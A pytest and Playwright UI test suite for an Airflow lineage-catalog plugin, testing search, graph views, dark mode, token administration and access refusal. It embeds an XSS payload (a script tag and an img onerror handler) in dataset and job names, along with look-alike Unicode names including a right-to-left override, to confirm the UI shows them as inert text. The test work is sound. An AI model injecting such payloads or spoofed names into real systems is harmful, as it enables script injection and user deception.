"""The catalog's pages in Airflow's UI, driven in Debian's headless Chromium (Playwright, no browser download).

Each step asserts what is visible and saves a screenshot into test-output/screenshots.
"""

from __future__ import annotations

import json
import os
import re
import time
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
import requests
from conftest import EXAMPLES
from servers import AirflowServer
from test_events import run_event

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parents[1]
SHOTS = ROOT / "test-output" / "screenshots"
DOC_SHOTS = ROOT / "docs" / "screenshots"
CHROMIUM = "/usr/bin/chromium"
# Without the background-networking flags Chromium keeps trying to reach the internet.
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
HOSTILE = '<script>window.__xss = 1</script><img src=x onerror="window.__xss = 2">'
DAG_FILE = """
from datetime import datetime
from airflow.sdk import DAG
from airflow.providers.standard.operators.empty import EmptyOperator

with DAG("nightly_sessions", start_date=datetime(2026, 1, 1), schedule=None):
    EmptyOperator(task_id="sessionize") >> EmptyOperator(task_id="daily_rollup")
"""


def _hostile_events() -> list[dict]:
    """A job, a namespace and datasets whose names are HTML that would run if a page injected it."""
    base = json.loads((EXAMPLES / "02_table_lineage" / "02_build_invoices_complete.json").read_text())
    base["job"] = {"namespace": f"ns{HOSTILE}", "name": f"job{HOSTILE}", "facets": {}}
    base["run"] = {"runId": str(uuid.uuid4()), "facets": {}}
    base["inputs"] = [{"namespace": "postgres://db:5432", "name": f"in{HOSTILE}", "facets": {}}]
    base["outputs"] = [{"namespace": "postgres://db:5432", "name": f"out{HOSTILE}", "facets": {}}]
    return [base]


# Names that render like others: a zero-width space, a right-to-left override that would show
# "invoices_exe.txt", an accent sent decomposed (e + U+0301), a zero-width joiner in a job name.
ZWSP_NAME = "orders\u200b_daily"
BIDI_NAME = "invoices_\u202etxt.exe"
NFD_NAME = "cafe\u0301_sales"
ZWJ_JOB = "load\u200d_orders"
SPACED_JOBS = ("orders ", " orders", "orders\u2800")


def _look_alike_events() -> list[dict]:
    base = json.loads((EXAMPLES / "02_table_lineage" / "02_build_invoices_complete.json").read_text())
    base["job"] = {"namespace": "look-alikes", "name": ZWJ_JOB, "facets": {}}
    base["run"] = {"runId": str(uuid.uuid4()), "facets": {}}
    base["inputs"] = [{"namespace": "s3://look-alikes", "name": NFD_NAME, "facets": {}}]
    schema = {
        "_producer": "https://example.com/tests",
        "_schemaURL": "https://openlineage.io/spec/facets/1-1-1/SchemaDatasetFacet.json",
        "fields": [{"name": "amount\u200b", "type": "decimal"}],
    }
    base["outputs"] = [
        {"namespace": "s3://look-alikes", "name": ZWSP_NAME, "facets": {"schema": schema}},
        {"namespace": "s3://look-alikes", "name": BIDI_NAME, "facets": {}},
    ]
    spaced = []  # jobs that draw as "orders": a space at the end, a Braille blank
    for name in SPACED_JOBS:
        event = json.loads(json.dumps(base))
        event["job"]["name"], event["run"]["runId"] = name, str(uuid.uuid4())
        event["inputs"], event["outputs"] = [], []
        spaced.append(event)
    return [base, *spaced]


@pytest.fixture(scope="module")
def ui_server():
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: scripts/test.sh installs Debian's chromium")
    if not (ROOT / "airflow_ol_catalog" / "www" / "index.html").exists():
        pytest.fail("the UI is not built: scripts/test.sh builds it (npm ci && npm run build in ui/)")
    server = AirflowServer(airflow_namespaces="examples")  # the sample events' Airflow
    (server.home / "dags" / "nightly_sessions.py").write_text(DAG_FILE)
    server.start()
    processor = server.start_component("dag-processor")
    try:
        result = server.cli("ol-catalog", "send", str(EXAMPLES), "--url", server.url, "--token", server.token)
        assert "0 rejected" in result.stdout
        for payload in _hostile_events() + _look_alike_events():
            response = server.send(payload)
            assert response.status_code == 201, response.text
        admin = {"Authorization": f"Bearer {server.jwt('admin')}"}
        deadline = time.monotonic() + 120
        while requests.get(server.url + "api/v2/dags/nightly_sessions", headers=admin, timeout=5).status_code != 200:
            assert time.monotonic() < deadline, "the dag-processor did not parse the test DAG in time"
            time.sleep(1)
        yield server
    finally:
        server.stop_component(processor)
        server.cleanup()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    SHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


def _password(server: AirflowServer, user: str) -> str:
    return json.loads((server.home / "simple_auth_manager_passwords.json.generated").read_text())[user]


# (server home, user) -> the browser's cookies and storage once that user signed in on that server
_signed_in: dict[tuple[str, str], Any] = {}


def _logged_in(server: AirflowServer, browser, user: str):
    """A new browser context and page of a user signed in through Airflow's login form. The form is
    filled once per server and user; later contexts start with what it left (Airflow's UI is loaded
    twice by a sign-in). The page is blank then: a test goes where it starts."""
    key = (str(server.home), user)
    context = browser.new_context(viewport={"width": 1400, "height": 900}, storage_state=_signed_in.get(key))
    page = context.new_page()
    page.errors = []
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    if key not in _signed_in:
        page.goto(server.url)
        page.get_by_label("Username").fill(user)
        page.get_by_label("Password").fill(_password(server, user))
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url(lambda url: "/auth/login" not in url)
        _signed_in[key] = context.storage_state()
    return context, page


@pytest.fixture
def admin_page(ui_server, browser):
    context, page = _logged_in(ui_server, browser, "admin")
    yield page
    context.close()


@pytest.fixture
def viewer_page(ui_server, browser):
    context, page = _logged_in(ui_server, browser, "viewer")
    yield page
    context.close()


def shot(page, name: str) -> None:
    page.screenshot(path=str(SHOTS / f"{name}.png"))


def doc_shot(page, name: str, clip: dict | None = None) -> None:
    """The README's pictures, taken from the scenes the tests build; written only when
    OLC_DOC_SHOTS=1 (the README's UI section says how to remake them)."""
    if os.environ.get("OLC_DOC_SHOTS") == "1":
        page.screenshot(path=str(DOC_SHOTS / f"{name}.png"), clip=clip)


def test_walk_through_the_catalog_in_airflow(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url)
    page.get_by_role("button", name="Browse").click()
    page.get_by_role("menuitem", name="Lineage", exact=True).click()
    frame = page.frame_locator("iframe")
    expect(frame.get_by_role("heading", name="Lineage catalog")).to_be_visible()
    expect(frame.get_by_test_id("count-Jobs")).not_to_have_text("0")
    shot(page, "01-overview")

    frame.get_by_label("Search datasets, jobs, columns and namespaces").fill("orders_clean")
    frame.get_by_role("option", name="sales.orders_clean").click()
    expect(frame.get_by_test_id("title")).to_have_text("sales.orders_clean")
    expect(frame.get_by_text("ordered_at")).to_be_visible()
    expect(frame.get_by_text("also known as s3://acme-lake warehouse/sales.db/orders_clean")).to_be_visible()
    shot(page, "02-dataset")

    frame.get_by_role("tab", name="Lineage", exact=True).click()
    expect(frame.locator('[data-node-id="dataset:hive://metastore:9083:sales.orders_clean"]')).to_be_visible()
    expect(frame.locator('[data-node-id="job:examples:sales_reports.daily_revenue"]')).to_be_visible()
    shot(page, "03-dataset-graph")

    # The explorer from the report table, upstream only, one hop: then expand the job in place.
    frame.get_by_role("link", name="Open in the lineage explorer →").click()
    # The navigation bar marks where the user is.
    expect(frame.get_by_role("link", name="Lineage graph", exact=True)).to_have_attribute("aria-current", "page")
    expect(frame.get_by_role("link", name="Overview", exact=True)).not_to_have_attribute("aria-current", "page")
    frame.get_by_label("Downstream depth").fill("0")
    frame.get_by_label("Upstream depth").fill("1")
    spark_job = frame.locator(
        '[data-node-id="job:examples:clean_orders.execute_insert_into_hadoop_fs_relation_command"]'
    )
    expect(spark_job).to_be_visible()
    raw = frame.locator('[data-node-id="dataset:hive://metastore:9083:sales.orders_raw"]')
    expect(raw).to_have_count(0)
    spark_job.dblclick()
    expect(raw).to_be_visible()
    shot(page, "04-expanded-upstream")

    # Column mode around the column-lineage example's output.
    frame.get_by_label("Search datasets, jobs, columns and namespaces").fill("acme.marketing.customer_scores")
    frame.get_by_role("option", name="acme.marketing.customer_scores").click()
    frame.get_by_role("tab", name="Column lineage").click()
    frame.get_by_role("link", name="Column lineage graph →").click()
    expect(frame.locator('[data-kind="card"]').first).to_be_visible()
    assert frame.locator('[data-kind="card"]').count() >= 3  # customers and orders -> customer_scores
    assert frame.locator(".olc-row").count() >= 8
    shot(page, "05-column-mode")

    page.goto(ui_server.url + "dags/nightly_sessions")
    page.get_by_role("link", name="Lineage", exact=True).click()
    tab = page.frame_locator("iframe")
    expect(tab.locator('[data-node-id="job:examples:nightly_sessions.sessionize"]')).to_be_visible()
    expect(tab.locator('[data-node-id="dataset:s3://acme-lake:sessions"]')).to_be_visible()
    shot(page, "06-dag-lineage-tab")
    assert page.errors == []


def test_html_in_names_renders_as_text(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    base = ui_server.url + "ol-catalog/ui/"
    page.goto(base + "#/search?q=" + requests.utils.quote("<script>"))
    expect(page.get_by_test_id("search-result")).to_have_count(3)  # the job and both datasets
    page.goto(
        base
        + "#/dataset?ns="
        + requests.utils.quote("postgres://db:5432", safe="")
        + "&name="
        + requests.utils.quote(f"out{HOSTILE}", safe="")
    )
    expect(page.get_by_test_id("title")).to_have_text(f"out{HOSTILE}")
    page.goto(
        base
        + "#/job?ns="
        + requests.utils.quote(f"ns{HOSTILE}", safe="")
        + "&name="
        + requests.utils.quote(f"job{HOSTILE}", safe="")
    )
    expect(page.get_by_test_id("title")).to_have_text(f"job{HOSTILE}")
    expect(page.get_by_text(f"Job · ns{HOSTILE}", exact=False)).to_be_visible()
    page.get_by_role("tab", name="Lineage", exact=True).click()
    expect(page.locator("[data-node-id]")).to_have_count(3)
    shot(page, "07-html-names-as-text")
    assert page.evaluate("window.__xss") is None and dialogs == []


def test_pages_and_their_api_refuse_anonymous_users(ui_server):
    for path in ("ol-catalog/ui/", "ol-catalog/api/v1/me", "ol-catalog/api/v1/search?q=a"):
        response = requests.get(ui_server.url + path, timeout=10)
        assert response.status_code == 401, path
    index = requests.get(ui_server.url + "ol-catalog/ui/", cookies={"_token": ui_server.jwt("viewer")}, timeout=10)
    asset = next(part.split('"')[0] for part in index.text.split('src="./')[1:])
    assert requests.get(ui_server.url + "ol-catalog/ui/" + asset, timeout=10).status_code == 401
    assert (
        requests.get(
            ui_server.url + "ol-catalog/ui/" + asset, cookies={"_token": ui_server.jwt("viewer")}, timeout=10
        ).status_code
        == 200
    )


def test_who_am_i_tells_admins_from_viewers(ui_server):
    def me(user):
        return requests.get(
            ui_server.url + "ol-catalog/api/v1/me", cookies={"_token": ui_server.jwt(user)}, timeout=10
        ).json()

    assert me("admin") == {"name": "user:admin", "admin": True}
    assert me("viewer") == {"name": "user:viewer", "admin": False}


def test_admin_creates_a_token_shown_once_with_ready_to_paste_config(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url)
    refused = requests.post(
        ui_server.url + "ol-catalog/api/v1/lineage",
        data=b"{not json",
        headers={"Authorization": f"Bearer {ui_server.token}", "Content-Type": "application/json"},
        timeout=10,
    )
    assert refused.status_code == 400
    page.get_by_role("button", name="Browse").click()
    page.get_by_role("menuitem", name="Lineage admin").click()
    frame = page.frame_locator("iframe")
    expect(frame.get_by_role("heading", name="Lineage admin")).to_be_visible()
    expect(frame.get_by_text("examples", exact=True)).to_be_visible()
    frame.get_by_role("tab", name="Tokens").click()
    frame.get_by_label("Token name", exact=True).fill("browser-made")
    frame.get_by_role("button", name="Create token").click()
    expect(frame.get_by_test_id("new-token")).to_be_visible()
    secret = frame.get_by_test_id("snippet-Token").inner_text().strip()
    assert secret.startswith("olc_")
    expect(frame.get_by_test_id("snippet-openlineage.yml")).to_contain_text("endpoint: ol-catalog/api/v1/lineage")
    expect(frame.get_by_test_id("snippet-openlineage.yml")).to_contain_text(f"apiKey: {secret}")
    shot(page, "08-admin-new-token")
    response = ui_server.send(_hostile_events()[0] | {"run": {"runId": str(uuid.uuid4())}}, token=secret)
    assert response.status_code == 201
    frame.get_by_role("button", name="Done").click()
    expect(frame.get_by_role("cell", name="browser-made", exact=True)).to_be_visible()
    frame.get_by_role("tab", name="Refused requests").click()
    expect(frame.get_by_role("cell", name="unreadable body").first).to_be_visible()
    expect(frame.get_by_role("cell", name="token:tests").first).to_be_visible()
    shot(page, "09-admin-refused-requests")


def test_admin_page_refuses_a_viewer(ui_server, viewer_page):
    from playwright.sync_api import expect

    page = viewer_page
    page.goto(ui_server.url + "ol-catalog/ui/#/admin")
    expect(page.get_by_role("alert")).to_contain_text("may not administer the catalog")
    shot(page, "10-admin-refuses-viewer")
    page.goto(ui_server.url + "ol-catalog/ui/#/search?q=orders")
    expect(page.get_by_test_id("search-result").first).to_be_visible()


def test_pages_follow_airflows_dark_mode(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url)
    page.evaluate("localStorage.setItem('theme', 'dark')")
    page.goto(ui_server.url + "plugin/lineage")
    expect(page.locator("html")).to_have_class("dark")
    frame = page.frame_locator("iframe")
    expect(frame.get_by_role("heading", name="Lineage catalog")).to_be_visible()
    expect(frame.locator("html")).to_have_class("dark")
    background = frame.locator("body > div > div").first.evaluate("e => getComputedStyle(e).backgroundColor")
    # Airflow's own dark background (its theme's colours are adopted), in whatever notation.
    assert _is_dark(background), background
    shot(page, "11-dark-mode")
    # The explorer's zoom buttons and minimap are dark too, their icons light.
    frame.get_by_role("navigation").get_by_label("Search datasets, jobs, columns and namespaces").fill("orders_clean")
    frame.get_by_role("option", name="sales.orders_clean").click()
    frame.get_by_role("tab", name="Lineage", exact=True).click()
    button = frame.locator(".react-flow__controls-button").first
    expect(button).to_be_visible()
    assert _is_dark(button.evaluate("e => getComputedStyle(e).backgroundColor"))
    assert not _is_dark(button.locator("svg").evaluate("e => getComputedStyle(e).fill"))
    assert _is_dark(frame.locator(".react-flow__minimap").evaluate("e => getComputedStyle(e).backgroundColor"))
    node = frame.locator('[data-node-id="dataset:hive://metastore:9083:sales.orders_clean"]')
    expect(node).to_be_visible()
    assert _is_dark(node.evaluate("e => getComputedStyle(e).backgroundColor"))
    shot(page, "12-dark-mode-graph")
    doc_shot(page, "dataset-lineage-dark")


def _is_dark(color: str) -> bool:
    """Whether a CSS colour (rgb(), rgba() or oklch()) is a dark one."""
    values = color[color.index("(") + 1 : color.index(")")].replace(",", " ").replace("/", " ").split()
    return float(values[0]) < 0.5 if color.startswith("oklch") else sum(float(v) for v in values[:3]) < 200


def test_lists_page_and_sort_on_the_server_with_the_state_in_the_url(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/job?ns=examples&name=nightly_sessions.sessionize&tab=runs")
    page.get_by_role("button", name="State").click()
    expect(page).to_have_url(re.compile(r"sortBy=state.*sortDirection=asc|sortDirection=asc.*sortBy=state"))
    expect(page.get_by_role("button", name="State ▲")).to_be_visible()
    page.goto(ui_server.url + "ol-catalog/ui/#/search?type=dataset")
    page.get_by_label("Sort by").select_option("updatedAt")
    expect(page).to_have_url(re.compile("sortBy=updatedAt"))
    expect(page.get_by_text("matches")).to_be_visible()
    page.reload()
    expect(page.get_by_label("Sort by")).to_have_value("updatedAt")
    expect(page.get_by_test_id("search-result").first).to_be_visible()
    assert page.get_by_test_id("search-result").count() > 5


def test_search_finds_columns(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/search?type=field&q=ordered_at")
    result = page.get_by_test_id("search-result").first
    expect(result).to_contain_text("Column")
    expect(result).to_contain_text("sales.orders_clean.ordered_at")
    result.get_by_role("link").click()
    expect(page.get_by_test_id("title")).to_have_text("sales.orders_clean")


def test_top_search_box_is_a_combobox_grouping_datasets_jobs_columns_and_namespaces(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/")
    box = page.get_by_role("combobox", name="Search datasets, jobs, columns and namespaces")
    expect(box).to_have_attribute("aria-expanded", "false")
    box.fill("ordered_at")
    column = page.get_by_role("option").filter(has_text="sales.orders_clean")
    expect(column.first).to_be_visible()
    expect(box).to_have_attribute("aria-expanded", "true")
    assert page.get_by_role("option").first.get_attribute("data-group") == "Columns"
    expect(page.get_by_role("listbox")).to_contain_text("Columns")
    active = box.get_attribute("aria-activedescendant")
    assert active and page.locator(f"[id='{active}']").get_attribute("aria-selected") == "true"
    shot(page, "40-search-box-columns")
    box.press("Enter")
    expect(page.get_by_test_id("title")).to_have_text("sales.orders_clean")
    box.fill("acme")
    namespace = page.get_by_role("option").filter(has_text="s3://acme-lake").filter(has_text="namespace")
    expect(namespace).to_be_visible()
    groups = page.get_by_role("option").evaluate_all("options => options.map(o => o.dataset.group)")
    assert groups == sorted(groups, key=["Datasets", "Jobs", "Columns", "Namespaces"].index), groups
    assert {"Datasets", "Namespaces"} <= set(groups), groups
    shot(page, "41-search-box-groups")
    namespace.click()
    expect(page.get_by_text("In namespace s3://acme-lake")).to_be_visible()
    expect(page).to_have_url(re.compile(r"ns=s3%3A%2F%2Facme-lake"))
    assert page.errors == []


def test_charts_draw_every_bucket_with_axes_units_and_a_text_alternative(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/")
    days, hours = page.get_by_test_id("events-per-day"), page.get_by_test_id("events-per-hour")
    expect(days.locator("[data-bar]")).to_have_count(30)  # empty days too, not only those with events
    expect(hours.locator("[data-bar]")).to_have_count(48)
    for chart in (days, hours):
        expect(chart.get_by_text("events", exact=True)).to_be_visible()  # the unit of the value axis
        summary = chart.get_by_role("img").get_attribute("aria-label")
        assert re.search(r"\d+ in all, most in ", summary), summary
    today = days.locator("[data-bar]").last
    assert int(today.get_attribute("data-value")) > 0  # the examples arrived today
    assert days.locator("text").filter(has_text=re.compile(r"^\d\d-\d\d$")).count() >= 4  # day labels
    shot(page, "42-overview-charts")
    # The job page charts its runs' durations with a unit, a legend and the start times.
    base = json.loads((EXAMPLES / "02_table_lineage" / "02_build_invoices_complete.json").read_text())
    for day, minutes, end in ((1, 5, "COMPLETE"), (2, 12, "FAIL"), (3, 7, "COMPLETE")):
        run_id = str(uuid.uuid4())
        for event_type, minute in (("START", 0), (end, minutes)):
            payload = {**base, "eventType": event_type, "eventTime": f"2026-01-0{day}T10:{minute:02d}:00Z"}
            payload["job"] = {"namespace": "durations", "name": "nightly.load", "facets": {}}
            payload["run"] = {"runId": run_id, "facets": {}}
            assert ui_server.send(payload).status_code == 201
    page.goto(ui_server.url + "ol-catalog/ui/#/job?ns=durations&name=nightly.load&tab=runs")
    chart = page.get_by_test_id("duration-chart")
    expect(chart).to_contain_text("Duration of the last 3 finished runs, oldest first")
    expect(chart).to_contain_text("minutes")
    expect(chart.locator("[data-bar]")).to_have_count(3)
    assert chart.locator("[data-bar]").evaluate_all("bars => bars.map(b => b.dataset.value)") == [
        "300000",
        "720000",
        "420000",
    ]
    expect(chart.locator("rect").nth(1)).to_have_attribute("fill", "var(--chakra-colors-red-500)")
    assert "Durations of " in chart.get_by_role("img").get_attribute("aria-label")
    shot(page, "43-job-durations")
    assert page.errors == []


def test_a_long_graph_opens_readable_around_its_focus_and_fit_keeps_labels_readable(ui_server, admin_page):
    """A chain of 24 nodes would fit only at a zoom where labels are 3 px: it opens at the smallest
    readable zoom, centred on the node asked for, the rest reachable by panning and the minimap."""
    from playwright.sync_api import expect

    base = json.loads((EXAMPLES / "02_table_lineage" / "02_build_invoices_complete.json").read_text())
    for step in range(12):
        payload = {**base, "eventType": "COMPLETE", "eventTime": f"2026-01-01T10:{step:02d}:00Z"}
        payload["job"] = {"namespace": "long-chain", "name": f"step_{step:02d}", "facets": {}}
        payload["run"] = {"runId": str(uuid.uuid4()), "facets": {}}
        payload["inputs"] = [{"namespace": "s3://long-chain", "name": f"t{step:02d}", "facets": {}}]
        payload["outputs"] = [{"namespace": "s3://long-chain", "name": f"t{step + 1:02d}", "facets": {}}]
        assert ui_server.send(payload).status_code == 201
    page = admin_page
    node = "dataset:s3://long-chain:t06"
    page.goto(ui_server.url + f"ol-catalog/ui/#/graph?node={requests.utils.quote(node, safe='')}&up=12&down=12")
    focus = page.locator(f'[data-node-id="{node}"]')
    expect(focus).to_be_visible()

    def zoom() -> float:
        transform = page.locator(".react-flow__viewport").evaluate("e => e.style.transform")
        return float(re.search(r"scale\(([\d.]+)\)", transform).group(1))

    assert zoom() >= 0.7
    pane, box = page.locator(".react-flow").bounding_box(), focus.bounding_box()
    assert abs(box["x"] + box["width"] / 2 - (pane["x"] + pane["width"] / 2)) < 5  # centred on the focus
    assert page.locator('[data-node-id="dataset:s3://long-chain:t00"]').count() == 0  # far off, not drawn
    font = float(focus.locator(".olc-node-label").evaluate("e => parseFloat(getComputedStyle(e).fontSize)"))
    assert font * zoom() >= 9
    shot(page, "44-long-graph-readable")
    page.locator(".react-flow__controls-fitview").click()
    page.wait_for_timeout(300)
    assert zoom() >= 0.7  # fit never shrinks labels below the readable size
    page.locator(".react-flow__pane").hover()
    page.mouse.wheel(0, 3000)  # zooming out by hand still goes further
    page.wait_for_timeout(300)
    assert zoom() < 0.7
    assert page.errors == []


def test_a_graph_that_cannot_be_laid_out_says_so(ui_server, admin_page):
    """The layout runs in a Web Worker; when that worker cannot load, the page says so instead of
    staying empty."""
    from playwright.sync_api import expect

    page = admin_page
    page.route("**/assets/layoutWorker-*.js", lambda route: route.fulfill(status=404, body="not here"))
    page.goto(ui_server.url + "ol-catalog/ui/#/graph?node=job%3Aexamples%3Aclickstream")
    expect(page.get_by_text("laying the graph out failed: the layout worker did not start")).to_be_visible()
    assert page.errors == []


@pytest.mark.parametrize(
    "link, message",
    [
        ("#/job?ns=examples&name=", "This link gives an empty job"),
        ("#/dataset?ns=examples", "This link gives an empty dataset"),
        ("#/run?id=", "This link gives an empty run_id"),
        ("#/dataset/%E0%A4%A?ns=%", "This link gives an empty dataset"),  # no valid encoding: was a blank app
        (
            "#/graph?node=job%3Aexamples%3Aclickstream&asOf=2026-13-45T99%3A99",
            'asOf "2026-13-45T99:99" is not a date and time',
        ),
    ],
)
def test_a_link_missing_a_part_or_holding_no_time_says_so_and_the_app_goes_on(ui_server, admin_page, link, message):
    """An empty name fetched `jobs/`, which is the list of jobs, and a time that is none threw while
    the page drew: the whole app went blank until a reload. The page now says what is wrong, and
    the navigation still works."""
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/" + link)
    expect(page.get_by_text(message)).to_be_visible()
    assert page.errors == []
    page.goto(ui_server.url + "ol-catalog/ui/#/search?q=clickstream")
    expect(page.get_by_text("clickstream").first).to_be_visible()


def test_a_parent_known_only_through_its_children_says_so(ui_server, admin_page):
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/job?ns=examples&name=clickstream")
    expect(page.get_by_test_id("parent-only")).to_contain_text("Known only as the parent of other jobs' runs")
    expect(page.get_by_text("NEW", exact=True)).to_have_count(0)  # no made-up run state
    page.goto(ui_server.url + "ol-catalog/ui/#/graph?node=job%3Aexamples%3Aclickstream")
    node = page.locator('[data-node-id="job:examples:clickstream"]')
    expect(node.locator(".olc-node-label")).to_have_text("⚙ clickstream")  # the name whole, not cut by a note
    expect(node.locator(".olc-node-sublabel")).to_have_text("examples")
    expect(node.locator(".olc-node-status")).to_have_text("known as a parent only")
    assert page.errors == []


# Wide letters and a CJK name: a cut by character count would run out of a node's box.
LONG_NAME = "販売注文テーブルの非常に長い名前_" + "WWWWWWWWWWMMMMMMMMMM_" * 3


def _story_events() -> list[dict]:
    """Hourly loads of two tables, relative to now: `orders` written 30 minutes ago (on time), `refunds`
    5 hours ago (late); the newest load of `refunds` changed its fields, the loader's newest run failed,
    the newest check of `orders` found a null id, and `orders` names its owner."""
    now = datetime.now(timezone.utc)
    producer = "https://example.com/tests"

    def at(hours: float) -> str:
        return (now - timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    def schema(*names: str) -> dict:
        return {
            "_producer": producer,
            "_schemaURL": f"{producer}/schema",
            "fields": [{"name": n, "type": "text"} for n in names],
        }

    def run(job: str, ended: float, state: str, inputs: list, outputs: list) -> list[dict]:
        run_id = str(uuid.uuid4())
        common = {"producer": producer, "run": {"runId": run_id}, "job": {"namespace": "stories", "name": job}}
        return [
            {**common, "eventType": "START", "eventTime": at(ended + 0.05), "inputs": inputs, "outputs": outputs},
            {**common, "eventType": state, "eventTime": at(ended), "inputs": inputs, "outputs": outputs},
        ]

    owner = {"_producer": producer, "_schemaURL": f"{producer}/ownership", "owners": [{"name": "team:sales"}]}
    events: list[dict] = []
    for hours in (3.5, 2.5, 1.5, 0.5):
        orders = {"namespace": "s3://stories", "name": "orders", "facets": {"ownership": owner}}
        events += run("load_orders", hours, "COMPLETE", [], [orders])
    for hours in (8, 7, 6, 5):
        fields = ("id", "amount", "reason") if hours == 5 else ("id", "amount")
        refunds = {"namespace": "s3://stories", "name": "refunds", "facets": {"schema": schema(*fields)}}
        events += run("load_refunds", hours, "COMPLETE", [{"namespace": "s3://stories", "name": "orders"}], [refunds])
    events += run("load_refunds", 0.2, "FAIL", [{"namespace": "s3://stories", "name": "orders"}], [])
    orders = {"namespace": "s3://stories", "name": "orders"}
    events += run("load_refunds", 12, "COMPLETE", [orders], [{"namespace": "s3://stories", "name": LONG_NAME}])
    assertions = {
        "_producer": producer,
        "_schemaURL": "https://openlineage.io/spec/facets/1-0-1/DataQualityAssertionsDatasetFacet.json",
        "assertions": [
            {"assertion": "not_null", "success": False, "column": "id"},
            {"assertion": "unique", "success": True},
        ],
    }
    checked = {"namespace": "s3://stories", "name": "orders", "inputFacets": {"dataQualityAssertions": assertions}}
    # Checked 40 days ago: the overview's test counts (last 30 days, asserted by another test) stay as they were.
    events += run("check_orders", 40 * 24, "FAIL", [checked], [])
    return events


@pytest.fixture(scope="module")
def stories(ui_server):
    for payload in _story_events():
        assert ui_server.send(payload).status_code == 201


def test_graph_nodes_tell_run_state_freshness_owner_checks_and_schema_changes(ui_server, stories, admin_page):
    """Each node says what a user triages by, and the colouring and its legend follow the chosen story."""
    from playwright.sync_api import expect

    page = admin_page
    page.goto(ui_server.url + "ol-catalog/ui/#/graph?node=dataset%3As3%3A%2F%2Fstories%3Aorders&up=1&down=2")
    orders = page.locator('[data-node-id="dataset:s3://stories:orders"] .olc-node-status')
    refunds = page.locator('[data-node-id="dataset:s3://stories:refunds"] .olc-node-status')
    loader = page.locator('[data-node-id="job:stories:load_refunds"] .olc-node-status')
    expect(orders).to_have_text(re.compile(r"^3\d min ago · 1 failed · sales$"))
    expect(orders.locator(".olc-node-part", has_text="1 failed")).to_have_attribute(
        "title", "1 data-quality check failed"
    )
    expect(refunds).to_have_text(re.compile(r"^late: 5 h ago · schema changed$"))
    expect(refunds.locator(".olc-node-part", has_text="late")).to_have_attribute(
        "title", "Last written 5 h ago, usually every 1 h"
    )
    expect(loader).to_have_text("FAILED · 3 min")  # the failed run started 3 minutes before it ended
    # Handles where the page tells React Flow they are before drawing: mid-height on the inner edges.
    assert handle_centres(loader) == [240, [[6, 31], [239, 31]]]
    page.locator('[data-node-id="dataset:s3://stories:orders"]').click()
    shot(page, "45-nodes-tell-a-story")

    page.get_by_label("Colour by").select_option("freshness")
    legend = page.get_by_label("Legend")
    expect(legend).to_contain_text("Coloured by freshness")
    expect(legend).to_contain_text("on time 1")
    expect(legend).to_contain_text("late (over twice its usual interval) 1")
    late = page.locator('[data-node-id="dataset:s3://stories:refunds"]')
    expect(late).to_have_css("border-left-color", "rgb(239, 68, 68)")
    shot(page, "46-coloured-by-freshness")
    page.get_by_label("Colour by").select_option("state")
    # check_orders failed too, but a failed run's reads are attempted edges, not drawn by default.
    expect(legend).to_contain_text("COMPLETED 1")
    expect(legend).to_contain_text("FAILED 1")
    expect(page.locator('[data-node-id="job:stories:load_orders"]')).to_have_css(
        "border-left-color", "rgb(34, 197, 94)"
    )
    page.get_by_label("Colour by").select_option("owner")
    expect(legend).to_contain_text("sales 1")
    assert "color=owner" in page.url

    # Exports: every line of every card fits its box, whatever the name (measured where it is drawn).
    with page.expect_download() as download:
        page.get_by_role("button", name="SVG").click()
    svg = Path(download.value.path()).read_text()
    assert "販売注文" in svg and "…" in svg
    with page.expect_download() as download:
        page.get_by_role("button", name="PNG").click()
    assert Path(download.value.path()).read_bytes().startswith(b"\x89PNG")
    check = page.context.new_page()
    check.set_content(svg)
    widths = check.locator("text").evaluate_all("texts => texts.map(t => t.getComputedTextLength())")
    assert len(widths) >= 15 and max(widths) <= 240 - 24 + 1, widths
    shot(check, "48-exported-svg")
    check.close()

    # Schema changes are news only since the chosen time: from tomorrow on, none is.
    tomorrow = (datetime.now() + timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")
    page.get_by_label("Schema changes since").fill(tomorrow)
    expect(refunds).to_have_text(re.compile(r"^late: 5 h ago$"))

    # In dark mode the cards, their states and the legend stay readable.
    page.evaluate("localStorage.setItem('theme', 'dark')")
    page.reload()
    card = page.locator('[data-node-id="dataset:s3://stories:refunds"]')
    expect(card.locator(".olc-node-status")).to_be_visible()
    assert _is_dark(card.evaluate("e => getComputedStyle(e).backgroundColor"))
    assert not _is_dark(card.locator(".olc-node-label").evaluate("e => getComputedStyle(e).color"))
    assert _is_dark(page.get_by_label("Legend").evaluate("e => getComputedStyle(e).backgroundColor"))
    shot(page, "47-node-cards-dark")
    assert page.errors == []


def test_what_changed_between_two_times(ui_server, stories, admin_page):
